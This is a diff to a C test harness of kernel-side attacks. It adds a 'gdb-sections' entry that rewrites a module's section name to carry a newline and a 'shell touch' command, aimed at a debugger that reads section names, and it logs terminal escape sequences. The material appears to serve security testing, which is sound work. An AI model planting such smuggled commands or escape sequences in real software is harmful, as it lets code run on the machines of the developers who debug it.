@@ -33,6 +33,47 @@ static long keyring(const char *name)
 	return host(H_add_key, "user", name, "attack", 6, -4L);
 }
 
+#ifdef __KERNEL__
+#include <linux/module.h>
+#include <linux/slab.h>
+#include <linux/sysfs.h>
+
+/* kernel/module/sysfs.c */
+struct sections {
+	struct attribute_group grp;
+	unsigned int nr;
+	struct {
+		struct bin_attribute battr;
+		unsigned long address;
+	} v[];
+};
+
+/*
+ * Whoever attaches gdb has it read the names of this module's sections: one of them is more than a
+ * name, as is what the log has.  @path: a file for gdb to make.
+ */
+static long gdb_sections(const char *path)
+{
+	struct sections *s = (void *)THIS_MODULE->sect_attrs;
+
+	say("the log has \033]0;a title\a and \xc2\x9b" "31m red");
+	for (unsigned int i = 0; s && i < s->nr; i++) {
+		if (strncmp(s->v[i].battr.attr.name, ".data", 5) &&
+		    strncmp(s->v[i].battr.attr.name, ".bss", 4))
+			continue;
+		s->v[i].battr.attr.name = kasprintf(GFP_KERNEL, ".data.x 0x1\nshell touch %s\nprint",
+						    path);
+		return 0;
+	}
+	return -2;
+}
+#else
+static long gdb_sections(const char *path)
+{
+	return -38;	/* there is no gdb that looks */
+}
+#endif
+
 /* Not an attack: what is left of one. */
 static long forget_key(const char *number_of_key)
 {
@@ -106,5 +147,6 @@ const struct attack kernel_attacks[] = {
 	{ "setns", setns },
 	{ "setuid", setuid },
 	{ "init-module", module_load },
+	{ "gdb-sections", gdb_sections },
 	{ 0 },
 };
